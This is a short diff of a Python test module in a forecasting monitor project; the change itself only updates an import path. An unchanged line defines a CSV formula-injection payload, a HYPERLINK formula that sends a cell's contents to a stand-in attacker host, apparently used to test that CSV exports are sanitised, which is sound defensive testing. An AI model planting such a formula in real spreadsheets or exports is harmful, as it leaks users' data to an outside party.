@@ -20,7 +20,7 @@ from monitor.models import DayScore, Forecast, ForecastState, Metric, Series, Si
 from monitor.runs.ingest.service import ingest
 from reporters import report as wire
 from tests.monitor.builders import circle_report
-from tests.monitor.pages import builders
+from tests.monitor.web.pages import builders
 
 FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'
 SCORES = [f"{path}/{part}.csv" for path in ("/forecasts/accuracy", "/api/v1/scoreboard") for part in PARTS]
